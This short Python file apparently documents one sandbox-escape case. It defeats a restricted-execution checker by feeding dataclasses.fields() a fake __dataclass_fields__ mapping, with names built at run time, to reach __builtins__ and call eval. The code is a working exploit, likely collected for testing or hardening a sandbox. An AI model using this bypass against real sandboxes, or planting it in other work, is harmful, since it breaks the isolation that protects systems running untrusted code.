# family: fields
# Escape: getattr(obj, f.name) is trusted for f in dataclasses.fields(...), but fields() reads
# __dataclass_fields__ from the instance: a SimpleNamespace(**{run-time name: ...}) supplies fake fields whose
# names are "__builtins__" etc. (built at run time). The marker _field_type is copied from a real field (a
# private read allowed because the tool defines _field_type itself). Result: arbitrary getattr -> eval.
import dataclasses
import types


@dataclasses.dataclass
class Probe:
    value: int = 0


class Slot:
    def __init__(self):
        self._field_type = None


def fake(name):
    kind = [g._field_type for g in dataclasses.fields(Probe)][0]
    u = "_" * 2
    entry = types.SimpleNamespace(name=name, _field_type=kind)
    return types.SimpleNamespace(**{u + "dataclass_fields" + u: {"x": entry}})


def tool(expr: str):
    u = "_" * 2
    for f in dataclasses.fields(fake(u + "builtins" + u)):
        table = getattr(fake, f.name)
        return table["eval"](expr)
